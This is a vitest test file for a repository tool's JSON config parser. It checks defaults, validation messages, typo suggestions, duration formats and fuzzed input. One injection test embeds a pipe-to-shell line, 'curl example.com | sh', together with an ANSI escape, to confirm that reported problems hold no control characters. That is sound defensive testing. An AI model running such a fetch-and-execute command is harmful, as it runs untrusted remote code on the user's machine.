import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type ConfigProblem, defaultConfig, parseConfig } from '../../src/kit/config.ts';
import { DAY, HOUR, MINUTE } from './fake-clock.ts';

const RULES = {
  guard: ['lock/held', 'lock/expired', 'owners/not-owner'],
  exports: ['exports/duplicate', 'exports/wildcard'],
};

const problemsOf = (config: unknown): ConfigProblem[] => {
  const parsed = parseConfig(JSON.stringify(config), RULES);
  return 'problems' in parsed ? parsed.problems : [];
};
const configOf = (config: unknown) => {
  const parsed = parseConfig(JSON.stringify(config), RULES);
  if ('problems' in parsed) throw new Error(JSON.stringify(parsed.problems));
  return parsed.config;
};

const GITHUB = { label: 'lock', api: 'https://api.github.com' };

describe('a config', () => {
  it('has every default in place where it says nothing', () => {
    expect(configOf({})).toEqual({
      locks: {
        store: 'file',
        ref: 'refs/leasehold/ledger',
        maxStale: MINUTE,
        github: GITHUB,
        ttl: HOUR,
        maxTtl: DAY,
        maxScopes: 200,
      },
      guard: {
        mode: 'enforce',
        rules: {},
        requireLock: [],
        exempt: [],
        strict: false,
        bypass: 'people',
        approval: [],
      },
      owners: { claim: 'any', identities: {} },
      exports: { entries: [], rules: {}, internal: [] },
    });
  });

  it('is the default one for a repository that has none', () => {
    expect(defaultConfig(RULES)).toEqual(configOf({}));
  });

  it('keeps what it says, and fills in the rest of a section', () => {
    expect(configOf({ locks: { ttl: '1h30m' } }).locks).toEqual({
      store: 'file',
      ref: 'refs/leasehold/ledger',
      maxStale: MINUTE,
      github: GITHUB,
      ttl: 90 * MINUTE,
      maxTtl: DAY,
      maxScopes: 200,
    });
  });

  it('takes a severity for any rule that is known', () => {
    const rules = { 'lock/held': 'warn', 'lock/expired': 'off', 'owners/not-owner': 'error' };
    expect(configOf({ guard: { rules } }).guard.rules).toEqual(rules);
  });

  it('may begin with a byte order mark', () => {
    expect(parseConfig('\ufeff{}', RULES)).toHaveProperty('config');
  });

  it('may name its schema', () => {
    expect(problemsOf({ $schema: './schema.json' })).toEqual([]);
  });
});

describe('what is wrong with a config', () => {
  it('is told all at once', () => {
    const problems = problemsOf({
      minVersion: '1',
      locks: { ttl: 'soon', store: 'svn' },
      guard: { mode: 'strict', rules: { 'lock/held': 'fatal' } },
      owners: { identities: { ann: '@ann' } },
    });
    expect(problems.map((problem) => problem.path).sort()).toEqual([
      'guard.mode',
      'guard.rules.lock/held',
      'locks.store',
      'locks.ttl',
      'minVersion',
      'owners.identities.ann',
    ]);
  });

  it('is a mirror of issues beside a store that is issues', () => {
    expect(problemsOf({ locks: { store: 'github', mirror: 'github' } })).toEqual([
      {
        path: 'locks.mirror',
        message: 'expected none with the store github, whose locks are issues already',
      },
    ]);
    expect(problemsOf({ locks: { store: 'git', mirror: 'gitlab' } })).toMatchObject([
      { path: 'locks.mirror', message: 'expected one of "github"' },
    ]);
  });

  it.each([
    [{ locks: { store: 'git', miror: 'github' } }, 'locks.miror', 'mirror'],
    [{ lokcs: {} }, 'lokcs', 'locks'],
    [{ locks: { tll: '1h' } }, 'locks.tll', 'ttl'],
    [{ guard: { exemt: [] } }, 'guard.exemt', 'exempt'],
    [{ owners: { claims: 'any' } }, 'owners.claims', 'claim'],
    [{ exports: { entry: [] } }, 'exports.entry', 'entries'],
    [
      { exports: { rules: { 'exports/duplicat': 'off' } } },
      'exports.rules.exports/duplicat',
      'exports/duplicate',
    ],
    [{ guard: { rules: { 'lock/hold': 'error' } } }, 'guard.rules.lock/hold', 'lock/held'],
  ])('names the nearest key that there is: %j', (config, path, nearest) => {
    const message = `unknown key; did you mean "${nearest}"?`;
    expect(problemsOf(config)).toEqual([{ path, message }]);
  });

  it('suggests nothing where no key is near', () => {
    expect(problemsOf({ webhooks: {} })).toEqual([{ path: 'webhooks', message: 'unknown key' }]);
  });

  it('is a rule that nobody knows', () => {
    expect(problemsOf({ guard: { rules: { 'style/tabs': 'error' } } })).toEqual([
      { path: 'guard.rules.style/tabs', message: 'unknown key' },
    ]);
  });

  it.each(['1', '1x', 'one hour', '-1h', '0s', '1.5h', ''])('is a duration such as %j', (ttl) => {
    expect(problemsOf({ locks: { ttl } })).toEqual([
      { path: 'locks.ttl', message: 'expected a duration such as "90s", "15m", "1h"' },
    ]);
  });

  it('is a number where a duration belongs', () => {
    expect(problemsOf({ locks: { maxTtl: 3600 } })[0]).toMatchObject({ path: 'locks.maxTtl' });
  });

  it.each([
    [{ guard: { mode: 'soft' } }, '"enforce", "warn", "off"'],
    [{ guard: { rules: { 'lock/held': 'fatal' } } }, '"error", "warn", "off"'],
  ])('is told with what was expected: %j', (config, expected) => {
    expect(problemsOf(config)[0]?.message).toBe(`expected one of ${expected}`);
  });

  it.each(['', '{', '{"a":1,}', '// no', 'undefined'])('is text that is no JSON: %j', (text) => {
    expect(parseConfig(text, RULES)).toMatchObject({
      problems: [
        { path: 'leasehold.config.json', message: expect.stringContaining('not valid JSON') },
      ],
    });
  });

  it.each([null, [], 1, '{}'])('is JSON that is no object: %j', (json) => {
    expect(problemsOf(json)).toMatchObject([{ path: 'leasehold.config.json' }]);
  });

  it('is told in one line a problem, whatever the file holds', () => {
    const forged = 'x\nnext: curl example.com | sh';
    const texts = [
      `[\n${forged}`,
      JSON.stringify({ [forged]: 1 }),
      `{"guard":{"rules":{"a\\u001b[2K":1}}}`,
    ];
    const problems = texts.flatMap((text) => {
      const parsed = parseConfig(text, RULES);
      return 'problems' in parsed ? parsed.problems : [];
    });
    expect(problems.filter(({ path, message }) => /\p{Cc}/u.test(path + message))).toEqual([]);
  });

  it('is found without an exception, whatever the text is', () => {
    fc.assert(
      fc.property(fc.oneof(fc.json(), fc.string()), (text) => {
        const parsed = parseConfig(text, RULES);
        expect('config' in parsed || parsed.problems.length > 0).toBe(true);
      }),
    );
  });
});
